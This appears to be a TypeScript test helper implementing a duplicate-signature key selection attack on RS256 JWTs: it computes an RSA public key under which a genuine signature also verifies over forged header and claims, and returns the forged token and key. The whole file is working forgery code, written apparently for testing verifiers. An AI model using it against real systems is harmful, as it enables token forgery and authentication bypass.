/**
 * Duplicate-signature key selection (DSKS) against RS256, for the memo tests: given a genuine signature S
 * over one message, build an RSA public key (n, e) under which the same S also verifies over another
 * message of our choosing. RSA signatures do not bind the key (Menezes–Smart, "Security of signature schemes
 * in a multi-user setting", 2004; Blake-Wilson–Menezes, "Unknown key-share attacks", 1999), so a party that
 * may publish a key to one verifier can make any signature it has seen "valid" there over its own claims.
 *
 * Construction: pick primes p, q whose p−1 and q−1 are products of small primes (smooth), with S a
 * primitive root modulo each; the discrete logarithms of m (the PKCS#1 v1.5 encoding of the new message's
 * SHA-256) to the base S modulo p and modulo q are then easy (Pohlig–Hellman with baby-step giant-step in
 * each small subgroup); e is their combination by the CRT modulo lcm(p−1, q−1), so that S^e ≡ m (mod pq).
 * The private exponent is never needed: the attack only publishes a public key. A few seconds of BigInt
 * arithmetic on one core.
 */
import { checkPrimeSync, createHash, randomInt, type KeyObject } from 'node:crypto'
import { b64urlJson, mintJwt } from '../cases/mint.js'

export interface DuplicateKey {
  /** The public JWK (kty, n, e) under which the signature also verifies over `message`. */
  jwk: { kty: 'RSA'; n: string; e: string }
}

/** An RSA public key under which `signature` (RS256, 2048-bit) verifies over `message` (text, latin-1 bytes). */
export function duplicateSignatureKey(signature: Uint8Array, message: string): DuplicateKey {
  const k = signature.length
  if (k !== 256) throw new Error(`duplicateSignatureKey: expected a 2048-bit signature, got ${k} bytes`)
  const s = toBig(signature)
  const m = toBig(emsaPkcs1v15Sha256(Buffer.from(message, 'latin1'), k))
  const half = k * 4 // bits per prime
  for (let attempt = 0; attempt < 200; attempt++) {
    const p = smoothPrime(half, s, new Set())
    if (p === undefined) continue
    const parityP = modPow(m, (p.value - 1n) / 2n, p.value) === 1n ? 0n : 1n
    for (let tries = 0; tries < 50; tries++) {
      const q = smoothPrime(half, s, new Set(p.factors))
      if (q === undefined) continue
      // S is a primitive root mod p and mod q, so its log of m is odd exactly when m is a non-residue;
      // both logs must agree modulo gcd(p−1, q−1) = 2 for the CRT to combine them.
      const parityQ = modPow(m, (q.value - 1n) / 2n, q.value) === 1n ? 0n : 1n
      if (parityQ !== parityP) continue
      const n = p.value * q.value
      if (n <= s || n <= m || bitLength(n) !== k * 8) continue
      const xp = discreteLog(s, m, p)
      const xq = discreteLog(s, m, q)
      if (xp === undefined || xq === undefined) break
      const e = combine(xp, p.value - 1n, xq, q.value - 1n)
      if (modPow(s, e, n) !== m) throw new Error('duplicateSignatureKey: construction failed (S^e ≠ m)')
      return { jwk: { kty: 'RSA', n: toB64url(n, k), e: toB64url(e) } }
    }
  }
  throw new Error('duplicateSignatureKey: no key found')
}

// ---------------------------------------------------------------------------------------------------

interface SmoothPrime {
  value: bigint
  /** The distinct prime factors of value − 1 (2 included). */
  factors: bigint[]
}

const SMALL_PRIMES = sieve(1 << 17).filter((x) => x > 2).map(BigInt)

/**
 * A prime p of exactly `bits` bits, at least 0.9·2^bits (so that n = pq stays above any 2048-bit S), with
 * p − 1 = 2 · (distinct small odd primes not in `avoid`), and `base` a primitive root mod p.
 */
function smoothPrime(bits: number, base: bigint, avoid: Set<bigint>): SmoothPrime | undefined {
  const top = 1n << BigInt(bits)
  const low = (top * 9n) / 10n
  const used = new Set<bigint>()
  let prod = 2n
  // Stop once one more small prime can land p in [low, top).
  while (prod * (1n << 17n) < low) {
    const r = SMALL_PRIMES[randomInt(SMALL_PRIMES.length)] as bigint
    if (used.has(r) || avoid.has(r)) continue
    used.add(r)
    prod *= r
  }
  const minR = (low - 1n) / prod + 1n
  const maxR = (top - 2n) / prod
  for (const r of SMALL_PRIMES) {
    if (r < minR) continue
    if (r > maxR) break
    if (used.has(r) || avoid.has(r)) continue
    const p = prod * r + 1n
    if (!checkPrimeSync(p)) continue
    // Cheapest test first: a primitive root is a quadratic non-residue.
    if (modPow(base % p, (p - 1n) / 2n, p) === 1n) return undefined
    const factors = [2n, ...used, r]
    for (const f of factors) if (modPow(base % p, (p - 1n) / f, p) === 1n) return undefined
    return { value: p, factors }
  }
  return undefined
}

/** log_g(h) mod (p − 1) by Pohlig–Hellman over the small prime factors of p − 1 (each to the first power). */
function discreteLog(g: bigint, h: bigint, p: SmoothPrime): bigint | undefined {
  const order = p.value - 1n
  let x = 0n
  let mod = 1n
  for (const f of p.factors) {
    const gf = modPow(g % p.value, order / f, p.value)
    const hf = modPow(h % p.value, order / f, p.value)
    const xf = bsgs(gf, hf, f, p.value)
    if (xf === undefined) return undefined
    x = combine(x, mod, xf, f)
    mod *= f
  }
  return x
}

/** Baby-step giant-step: x in [0, order) with g^x = h (mod p). */
function bsgs(g: bigint, h: bigint, order: bigint, p: bigint): bigint | undefined {
  const m = BigInt(Math.ceil(Math.sqrt(Number(order))))
  const table = new Map<bigint, bigint>()
  let e = 1n
  for (let j = 0n; j < m; j++) {
    if (!table.has(e)) table.set(e, j)
    e = (e * g) % p
  }
  const factor = modPow(modInverse(g, p), m, p)
  let y = h
  for (let i = 0n; i <= m; i++) {
    const j = table.get(y)
    if (j !== undefined) return (i * m + j) % order
    y = (y * factor) % p
  }
  return undefined
}

/** x ≡ a (mod m1), x ≡ b (mod m2), for moduli whose gcd divides b − a; the answer modulo lcm(m1, m2). */
function combine(a: bigint, m1: bigint, b: bigint, m2: bigint): bigint {
  const g = gcd(m1, m2)
  const diff = (((b - a) % m2) + m2) % m2
  if (diff % g !== 0n) throw new Error('combine: incompatible congruences')
  const m2g = m2 / g
  const t = ((diff / g) * modInverse((m1 / g) % m2g, m2g)) % m2g
  const lcm = (m1 / g) * m2
  return (((a + m1 * t) % lcm) + lcm) % lcm
}

function emsaPkcs1v15Sha256(message: Buffer, k: number): Buffer {
  const digestInfo = Buffer.concat([Buffer.from('3031300d060960864801650304020105000420', 'hex'), createHash('sha256').update(message).digest()])
  const ps = Buffer.alloc(k - digestInfo.length - 3, 0xff)
  return Buffer.concat([Buffer.from([0x00, 0x01]), ps, Buffer.from([0x00]), digestInfo])
}

function modPow(base: bigint, exp: bigint, mod: bigint): bigint {
  let r = 1n
  let b = base % mod
  let e = exp
  while (e > 0n) {
    if (e & 1n) r = (r * b) % mod
    e >>= 1n
    b = (b * b) % mod
  }
  return r
}

function modInverse(a: bigint, m: bigint): bigint {
  let [oldR, r] = [((a % m) + m) % m, m]
  let [oldS, s] = [1n, 0n]
  while (r !== 0n) {
    const q = oldR / r
    ;[oldR, r] = [r, oldR - q * r]
    ;[oldS, s] = [s, oldS - q * s]
  }
  if (oldR !== 1n) throw new Error('modInverse: not invertible')
  return ((oldS % m) + m) % m
}

function gcd(a: bigint, b: bigint): bigint {
  while (b !== 0n) [a, b] = [b, a % b]
  return a
}

function bitLength(x: bigint): number {
  return x.toString(2).length
}

function toBig(bytes: Uint8Array): bigint {
  return BigInt(`0x${Buffer.from(bytes).toString('hex') || '0'}`)
}

function toB64url(x: bigint, length?: number): string {
  let hex = x.toString(16)
  if (hex.length % 2 === 1) hex = `0${hex}`
  let buf = Buffer.from(hex, 'hex')
  if (length !== undefined && buf.length < length) buf = Buffer.concat([Buffer.alloc(length - buf.length), buf])
  return buf.toString('base64url')
}

function sieve(limit: number): number[] {
  const composite = new Uint8Array(limit + 1)
  const out: number[] = []
  for (let i = 2; i <= limit; i++) {
    if (composite[i]) continue
    out.push(i)
    for (let j = i * i; j <= limit; j += i) composite[j] = 1
  }
  return out
}

/**
 * A genuine RS256 token `h1.p1.S` signed by `key`, and a forged `h2.p2.S` with the same signature segment
 * over other header and claims, with the public JWK under which the forged one verifies.
 */
export function duplicateSignaturePair(
  genuine: { header: Record<string, unknown>; claims: Record<string, unknown>; key: KeyObject },
  forged: { header: Record<string, unknown>; claims: Record<string, unknown> },
): { genuine: string; forged: string; forgedJwk: DuplicateKey['jwk'] } {
  const genuineToken = mintJwt(genuine.header, genuine.claims, genuine.key)
  const signature = genuineToken.slice(genuineToken.lastIndexOf('.') + 1)
  const forgedInput = `${b64urlJson(forged.header)}.${b64urlJson(forged.claims)}`
  const { jwk } = duplicateSignatureKey(Buffer.from(signature, 'base64url'), forgedInput)
  return { genuine: genuineToken, forged: `${forgedInput}.${signature}`, forgedJwk: jwk }
}
